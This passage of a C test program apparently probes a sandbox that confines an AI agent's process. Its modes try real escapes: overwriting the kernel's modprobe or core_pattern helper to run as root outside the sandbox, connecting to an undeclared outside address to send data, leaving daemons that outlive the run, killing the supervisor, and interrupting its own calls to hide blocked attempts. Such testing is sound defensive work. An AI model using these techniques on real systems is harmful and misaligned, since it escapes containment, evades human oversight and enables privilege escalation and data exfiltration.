		struct sockaddr_in und = v4("127.0.0.1", 7001);
		say("undeclared connect -> %d", connect(t, (void *)&und, sizeof und));
	}
	return 0;
}

/* ---- issue 11 class 5, guest only: the kernel's usermode helper ---- */
/* Run by the kernel as /sbin/modprobe (full root, initial namespaces, no
 * filter): send what it was asked to the undeclared sink. */
static int helper_send(int argc, char **argv)
{
	char m[512];
	int n = snprintf(m, sizeof m, "HELPER-ESCAPE uid=%d pid=%d argv:", getuid(), getpid());
	for (int i = 1; i < argc && n < 400; i++)
		n += snprintf(m + n, sizeof m - n, " %s", argv[i]);
	m[n++] = '\n';
	int k = open("/dev/kmsg", O_WRONLY);
	if (k >= 0)
		write(k, m, n);
	int t = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in und = v4("203.0.113.7", 443);
	if (connect(t, (void *)&und, sizeof und) == 0)
		write(t, m, n);
	/* and a process outside the run's tree that outlives it */
	if (fork() == 0) {
		setsid();
		for (int i = 1; i <= 4; i++) {
			sleep(2);
			char up[64] = "";
			int u = open("/proc/uptime", O_RDONLY);
			if (u >= 0) {
				read(u, up, sizeof up - 1);
				close(u);
			}
			char *sp = strchr(up, ' ');
			if (sp)
				*sp = 0;
			int z = snprintf(m, sizeof m, "HELPER-SURVIVOR %d s later, uptime %s\n",
					 2 * i, up);
			if (k >= 0)
				write(k, m, z);
		}
		_exit(0);
	}
	return 1; /* "module not found" */
}
static int copy_self(const char *to)
{
	int in = open("/proc/self/exe", O_RDONLY);
	if (in < 0)
		return -errno;
	struct stat st;
	fstat(in, &st);
	char *buf = malloc(st.st_size);
	if (read(in, buf, st.st_size) != st.st_size)
		return -EIO;
	char tmp[256];
	snprintf(tmp, sizeof tmp, "%s.rerun2", to);
	int out = open(tmp, O_CREAT | O_TRUNC | O_WRONLY, 0755);
	if (out < 0)
		return -errno;
	write(out, buf, st.st_size);
	fchmod(out, 0755);
	close(out);
	if (rename(tmp, to) < 0)
		return -errno;
	return 0;
}
static int mode_modprobe_escape(void)
{
	char mp[256] = "";
	int f = open("/proc/sys/kernel/modprobe", O_RDONLY);
	if (f >= 0) {
		ssize_t n = read(f, mp, sizeof mp - 1);
		if (n > 0)
			mp[n - 1] = 0;
		close(f);
	}
	say("kernel.modprobe = '%s'", mp);
	if (!mp[0])
		strcpy(mp, "/sbin/modprobe");
	say("replace %s with a copy of myself -> %s", mp, en(copy_self(mp)));
	/* trigger 1: a character device with no driver */
	int r = mknod("/tmp/rerun2-chr", S_IFCHR | 0600, makedev(240, 7));
	say("mknod c 240 7 -> %d %s", r, r ? strerrorname_np(errno) : "");
	if (r == 0) {
		int c = open("/tmp/rerun2-chr", O_RDONLY);
		say("open it -> %d %s", c, c < 0 ? strerrorname_np(errno) : "");
	}
	/* trigger 2: a file system type in a user namespace of our own */
	pid_t p = fork();
	if (p == 0) {
		int u = unshare(CLONE_NEWUSER | CLONE_NEWNS);
		say("unshare(user|mount) -> %d %s", u, u ? strerrorname_np(errno) : "");
		int m = mount("none", "/tmp", "rerun2fs", 0, 0);
		say("mount type rerun2fs -> %d %s", m, m ? strerrorname_np(errno) : "");
		_exit(0);
	}
	waitpid(p, 0, 0);
	/* trigger 3: an executable of no known format (binfmt-XXXX) */
	int e = open("/tmp/rerun2-bin", O_CREAT | O_TRUNC | O_WRONLY, 0755);
	write(e, "\x01\x02\x77\x77\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00", 16);
	close(e);
	p = fork();
	if (p == 0) {
		char *av[] = {"/tmp/rerun2-bin", 0};
		execv(av[0], av);
		say("exec unknown format -> %s", strerrorname_np(errno));
		_exit(0);
	}
	waitpid(p, 0, 0);
	sleep(3);
	return 0;
}

/* service (root, before the supervisor): a host whose core_pattern pipes into
 * a root-owned program, as systemd-coredump or apport hosts do */
static int mode_install_coredump(void)
{
	mkdir("/tmp/rerun2h", 0755);
	int f = open("/tmp/rerun2h/systemd-coredump", O_CREAT | O_TRUNC | O_WRONLY, 0755);
	write(f, "#!/bin/sh\ncat > /dev/null\n", 26);
	fchmod(f, 0755);
	close(f);
	f = open("/proc/sys/kernel/core_pattern", O_WRONLY);
	const char *cp = "|/tmp/rerun2h/systemd-coredump %p";
	say("core_pattern <- '%s': %zd", cp, write(f, cp, strlen(cp)));
	close(f);
	sleep(600);
	return 0;
}
/* agent: no sysctl write at all; replace the program core_pattern names and crash */
static int mode_coredump_escape(void)
{
	char cp[256] = "";
	int f = open("/proc/sys/kernel/core_pattern", O_RDONLY);
	if (f >= 0) {
		ssize_t n = read(f, cp, sizeof cp - 1);
		if (n > 0)
			cp[n - 1] = 0;
		close(f);
	}
	say("core_pattern = '%s'", cp);
	if (cp[0] != '|')
		return 0;
	char *prog = cp + 1, *sp = strchr(prog, ' ');
	if (sp)
		*sp = 0;
	say("replace %s with a copy of myself -> %s", prog, en(copy_self(prog)));
	pid_t c = fork();
	if (c == 0) {
		struct rlimit rl = {RLIM_INFINITY, RLIM_INFINITY};
		setrlimit(RLIMIT_CORE, &rl);
		prctl(PR_SET_DUMPABLE, 1);
		raise(SIGSEGV);
		_exit(0);
	}
	int ws;
	waitpid(c, &ws, 0);
	say("child: signal %d core %d", WIFSIGNALED(ws) ? WTERMSIG(ws) : 0, WCOREDUMP(ws) ? 1 : 0);
	sleep(3);
	return 0;
}

/* ---- issue 12, 2: outliving the run ---- */
static int mode_outlive(const char *tag)
{
	pid_t c = fork();
	if (c == 0) {
		setsid();
		if (fork() == 0) {
			prctl(PR_SET_PDEATHSIG, 0);
			signal(SIGHUP, SIG_IGN);
			signal(SIGTERM, SIG_IGN);
			for (int i = 0; i < 20; i++) {
				sleep(1);
				/* after the supervisor is gone, trapped calls would be ENOSYS;
				 * try both the undeclared connect and a plain write on a socket */
				int t = socket(AF_INET, SOCK_STREAM, 0);
				struct sockaddr_in und = v4("127.0.0.1", 7001);
				if (connect(t, (void *)&und, sizeof und) == 0) {
					char m[64];
					snprintf(m, sizeof m, "SURVIVOR %s %d", tag, i);
					write(t, m, strlen(m));
				}
				close(t);
			}
			_exit(0);
		}
		_exit(0);
	}
	waitpid(c, 0, 0);
	/* and a thread-group whose leader exits: the remaining thread keeps the process */
	say("daemonized; exiting");
	return 0;
}

/* a daemon that never ends: the caller must end the run from outside */
static int mode_forever(const char *tag)
{
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			prctl(PR_SET_PDEATHSIG, 0);
			for (int i = 0;; i++) {
				sleep(1);
				int t = socket(AF_INET, SOCK_STREAM, 0);
				struct sockaddr_in dec = v4("127.0.0.2", 7000);
				if (connect(t, (void *)&dec, sizeof dec) == 0) {
					char m[64];
					snprintf(m, sizeof m, "FOREVER %s %d", tag, i);
					write(t, m, strlen(m));
				}
				close(t);
			}
		}
		_exit(0);
	}
	say("daemon left behind");
	return 0;
}

/* kill my own supervisor (whatever I can name) and leave a daemon behind */
static int mode_killsup(void)
{
	pid_t pp = getppid();
	say("ppid %d, kill(ppid, SIGKILL) -> %d %s", pp, kill(pp, SIGKILL), strerrorname_np(errno));
	say("kill(-1, SIGKILL) would kill only my namespace; kill(1,SIGKILL) -> %d %s",
	    kill(1, SIGKILL), strerrorname_np(errno));
	return 0;
}

/* ---- issue 12, 3: the wrong descriptor table ---- */
static int g_fdn = -1;
static void *own_table(void *x)
{
	(void)x;
	/* a different path to a private table: unshare(CLONE_FILES) in a thread */
	int r = unshare(CLONE_FILES);
	say("thread unshare(CLONE_FILES) -> %d", r);
	close(g_fdn);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s != g_fdn) {
		dup2(s, g_fdn);
		close(s);
	}
	struct sockaddr_in dec = v4("127.0.0.2", 7000);
	r = connect(g_fdn, (void *)&dec, sizeof dec);
	say("thread connect(fd %d, declared) -> %d %s", g_fdn, r, r ? strerrorname_np(errno) : "");
	struct sockaddr_in pe;
	socklen_t pl = sizeof pe;
	int gp = getpeername(g_fdn, (void *)&pe, &pl);
	say("thread's fd %d peer: %s", g_fdn, gp == 0 ? "connected" : "NOT CONNECTED");
	if (gp == 0)
		say("  write -> %zd", write(g_fdn, "THREAD-OWN", 10));
	return 0;
}
static int mode_table(void)
{
	/* leader's fd N: an unconnected UDP socket */
	g_fdn = socket(AF_INET, SOCK_DGRAM, 0);
	pthread_t t;
	pthread_create(&t, 0, own_table, 0);
	pthread_join(t, 0);
	struct sockaddr_in pe;
	socklen_t pl = sizeof pe;
	int gp = getpeername(g_fdn, (void *)&pe, &pl);
	say("leader's fd %d: %s", g_fdn,
	    gp == 0 ? "CONNECTED (wrong table acted on)" : "unconnected");
	return 0;
}

/* SCM_RIGHTS from a thread with its own table: which file is passed? */
static void *rights_thread(void *x)
{
	int *sp = x;
	unshare(CLONE_FILES);
	close(g_fdn);
	int s = socket(AF_INET, SOCK_STREAM, 0); /* the thread's N: TCP; the leader's N: UDP */
	if (s != g_fdn) {
		dup2(s, g_fdn);
		close(s);
	}
	char c[CMSG_SPACE(sizeof(int))];
	memset(c, 0, sizeof c);
	struct iovec iov = {.iov_base = "R", .iov_len = 1};
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = c, .msg_controllen = sizeof c};
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);
	h->cmsg_level = SOL_SOCKET;
	h->cmsg_type = SCM_RIGHTS;
	h->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(h), &g_fdn, sizeof(int));
	long r = sendmsg(sp[0], &m, 0);
	say("thread sendmsg SCM_RIGHTS(fd %d = its TCP socket) -> %ld %s", g_fdn, r,
	    r < 0 ? strerrorname_np(errno) : "");
	char rc[CMSG_SPACE(sizeof(int))], b;
	struct iovec riov = {.iov_base = &b, .iov_len = 1};
	struct msghdr rm = {
	    .msg_iov = &riov, .msg_iovlen = 1, .msg_control = rc, .msg_controllen = sizeof rc};
	if (r == 1 && recvmsg(sp[1], &rm, 0) == 1 && CMSG_FIRSTHDR(&rm)) {
		int got;
		memcpy(&got, CMSG_DATA(CMSG_FIRSTHDR(&rm)), sizeof got);
		int t = -1;
		socklen_t l = sizeof t;
		getsockopt(got, SOL_SOCKET, SO_TYPE, &t, &l);
		say("received type %d: %s", t,
		    t == SOCK_STREAM ? "the thread's own (right)" : "THE LEADER'S (wrong table)");
	}
	return 0;
}
static int mode_table_rights(void)
{
	int sp[2];
	socketpair(AF_UNIX, SOCK_DGRAM, 0, sp);
	g_fdn = socket(AF_INET, SOCK_DGRAM, 0);
	pthread_t t;
	pthread_create(&t, 0, rights_thread, sp);
	pthread_join(t, 0);
	return 0;
}

/* a raw clone thread without CLONE_FILES whose leader then exits */
static char stk[65536] __attribute__((aligned(16)));
static int rawthread(void *x)
{
	(void)x;
	sleep(1); /* leader gone by now */
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in dec = v4("127.0.0.2", 7000);
	int r = connect(s, (void *)&dec, sizeof dec);
	struct sockaddr_in pe;
	socklen_t pl = sizeof pe;
	int gp = getpeername(s, (void *)&pe, &pl);
	char b[128];
	int n = snprintf(b, sizeof b, "agent raw thread: connect -> %d errno %d; peer %s\n", r,
			 r ? errno : 0, gp == 0 ? "connected" : "NOT CONNECTED");
	write(1, b, n);
	syscall(SYS_exit, 0);
	return 0;
}
static int mode_table_leaderexit(void)
{
	int s =
	    socket(AF_INET, SOCK_STREAM, 0); /* leader's table: a TCP socket at the same number */
	(void)s;
	clone(rawthread, stk + sizeof stk, CLONE_VM | CLONE_THREAD | CLONE_SIGHAND | CLONE_SYSVSEM,
	      0);
	syscall(SYS_exit, 0); /* leader exits, thread continues */
	return 0;
}

/* ---- issue 12, 4: hiding an attempt by interrupting one's own call ---- */
static volatile sig_atomic_t g_sig;
static void onsig(int s)
{
	(void)s;
	g_sig++;
}
struct rstat {
	int eacces, eintr, ok, other;
};
static void *sigthread(void *x)
{
	pthread_t target = *(pthread_t *)x;
	for (;;) {
		struct timespec ts = {0, (rand() % 60) * 1000};
		nanosleep(&ts, 0);
		pthread_kill(target, SIGUSR1);
	}
	return 0;
}
static int mode_interrupt(int n, int use_thread_killer, int restart)
{
	struct sigaction sa = {.sa_handler = onsig, .sa_flags = restart ? SA_RESTART : 0};
	sigaction(SIGUSR1, &sa, 0);
	sigaction(SIGALRM, &sa, 0);
	struct rstat st = {0};
	pthread_t me = pthread_self(), k;
	if (use_thread_killer)
		pthread_create(&k, 0, sigthread, &me);
	struct sockaddr_in und = v4("127.0.0.1", 7001);
	for (int i = 0; i < n; i++) {
		int t = socket(AF_INET, SOCK_STREAM, 0);
		if (!use_thread_killer) {
			struct itimerval it = {{0, 0}, {0, 1 + rand() % 80}};
			setitimer(ITIMER_REAL, &it, 0);
		}
		int r = connect(t, (void *)&und, sizeof und);
		if (r == 0) {
			st.ok++;
			write(t, "INTERRUPT", 9);
		} else if (errno == EACCES)
			st.eacces++;
		else if (errno == EINTR)
			st.eintr++;
		else
			st.other++;
		close(t);
	}
	say("interrupt: eacces %d eintr %d ok %d other %d (signals %d)", st.eacces, st.eintr, st.ok,
	    st.other, (int)g_sig);
	return 0;
}

/* interrupt by death: a child process making the connect is SIGKILLed by its parent */
static int mode_interrupt_kill(int n)
{
	int eacces = 0, killed = 0;
	for (int i = 0; i < n; i++) {
		int pp[2];
		pipe(pp);
		pid_t c = fork();
		if (c == 0) {
			struct sockaddr_in und = v4("127.0.0.1", 7001);
			int t = socket(AF_INET, SOCK_STREAM, 0);
			write(pp[1], "x", 1);
			int r = connect(t, (void *)&und, sizeof und);
			_exit(r == 0 ? 0 : errno == EACCES ? 13 : 2);
		}
		char x;
		read(pp[0], &x, 1);
		struct timespec ts = {0, (rand() % 40) * 1000};
		nanosleep(&ts, 0);
		kill(c, SIGKILL);
		int ws;
		waitpid(c, &ws, 0);
		if (WIFSIGNALED(ws))
			killed++;
		else if (WEXITSTATUS(ws) == 13)
			eacces++;
		close(pp[0]);
		close(pp[1]);
	}
	say("interrupt-kill: children killed %d, saw EACCES %d", killed, eacces);
	return 0;
}

/* a send on an unconnected socket that the supervisor may claim performed */
static int mode_unconnected(void)
{
	int u = socket(AF_INET, SOCK_STREAM, 0);
	long r = sc(SYS_sendto, u, (long)"UNCONN", 6, 0, 0, 0);
	say("sendto NULL name on unconnected TCP -> %s", en(r));
	struct sockaddr_in dec = v4("127.0.0.2", 7000);
	r = sc(SYS_sendto, u, (long)"UNCONN2", 7, 0, (long)&dec, sizeof dec);
	say("sendto declared name on unconnected TCP -> %s", en(r));
	int t = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	r = connect(t, (void *)&dec, sizeof dec);
	say("nonblocking connect declared -> %d %s", (int)r, r ? strerrorname_np(errno) : "");
	return 0;
}

int main(int argc, char **argv)
{
	const char *base = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];
	if (!strcmp(base, "modprobe") || !strcmp(base, "request-key") ||
	    !strcmp(base, "systemd-coredump"))
		return helper_send(argc, argv);
	setvbuf(stdout, 0, _IOLBF, 0);
	signal(SIGPIPE, SIG_IGN);
	srand(getpid() ^ time(0));
	if (argc < 2)
		return 2;
	const char *m = argv[1];
	say("mode %s uid %d euid %d", m, getuid(), geteuid());
	if (!strcmp(m, "highbits"))
		return mode_highbits();
	if (!strcmp(m, "ia32"))
		return mode_ia32();
	if (!strcmp(m, "x32"))
		return mode_x32();
	if (!strcmp(m, "noconnect"))
		return mode_noconnect();
	if (!strcmp(m, "inbound"))
		return mode_inbound();
	if (!strcmp(m, "inbound-race"))
		return mode_inbound_race(atoi(argv[2]), atoi(argv[3]));
	if (!strcmp(m, "cross"))
		return mode_cross(atol(argv[2]), atoi(argv[3]));
	if (!strcmp(m, "shm-outsider"))
		return mode_shm_outsider(atoi(argv[2]));
	if (!strcmp(m, "shm-agent"))
		return mode_shm_agent(atoi(argv[2]));
	if (!strcmp(m, "rootfs"))
		return mode_rootfs();
	if (!strcmp(m, "reaper"))
		return mode_reaper();
	if (!strcmp(m, "inherit"))
		return mode_inherit();
	if (!strcmp(m, "forge-handle"))
		return mode_forge_handle(argv[2], atoi(argv[3]));
	if (!strcmp(m, "forge2"))
		return mode_forge2(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (!strcmp(m, "outlive"))
		return mode_outlive(argv[2]);
	if (!strcmp(m, "install-coredump"))
		return mode_install_coredump();
	if (!strcmp(m, "coredump-escape"))
		return mode_coredump_escape();
	if (!strcmp(m, "modprobe-escape"))
		return mode_modprobe_escape();
	if (!strcmp(m, "forever"))
		return mode_forever(argv[2]);
	if (!strcmp(m, "killsup"))
		return mode_killsup();
	if (!strcmp(m, "table"))
		return mode_table();
	if (!strcmp(m, "table-rights"))
		return mode_table_rights();
	if (!strcmp(m, "table-leaderexit"))
		return mode_table_leaderexit();
	if (!strcmp(m, "interrupt"))
		return mode_interrupt(atoi(argv[2]), atoi(argv[3]), atoi(argv[4]));
	if (!strcmp(m, "interrupt-kill"))
		return mode_interrupt_kill(atoi(argv[2]));
	if (!strcmp(m, "unconnected"))
		return mode_unconnected();
	return 2;
}
